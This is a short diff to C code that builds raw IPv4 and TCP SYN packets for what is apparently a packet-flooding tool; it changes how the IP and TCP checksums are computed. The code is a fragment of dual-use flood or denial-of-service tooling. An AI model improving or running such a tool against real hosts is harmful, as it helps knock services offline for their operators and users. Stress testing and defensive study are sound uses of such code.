@@ -90,8 +90,9 @@ static size_t put_l4(const struct flood *f, uint8_t *out, const uint8_t *source,
 			     .syn = 1,
 			     .window = htons(64240)};
 
+	memcpy(out, &tcp, sizeof(tcp));
 	tcp.check = sum_fold(
-		sum_bytes(&tcp, sizeof(tcp), sum_pseudo(f, source, IPPROTO_TCP, sizeof(tcp))));
+		sum_bytes(out, sizeof(tcp), sum_pseudo(f, source, IPPROTO_TCP, sizeof(tcp))));
 	memcpy(out, &tcp, sizeof(tcp));
 	return sizeof(tcp);
 }
@@ -132,7 +133,8 @@ static size_t put_packet(const struct flood *f, uint8_t *out, uint64_t number)
 	ip.tot_len = htons((uint16_t)length);
 	memcpy(&ip.saddr, source, 4);
 	memcpy(&ip.daddr, f->target, 4);
-	ip.check = sum_fold(sum_bytes(&ip, sizeof(ip), 0));
+	memcpy(out, &ip, sizeof(ip));
+	ip.check = sum_fold(sum_bytes(out, sizeof(ip), 0));
 	memcpy(out, &ip, sizeof(ip));
 	return length;
 }
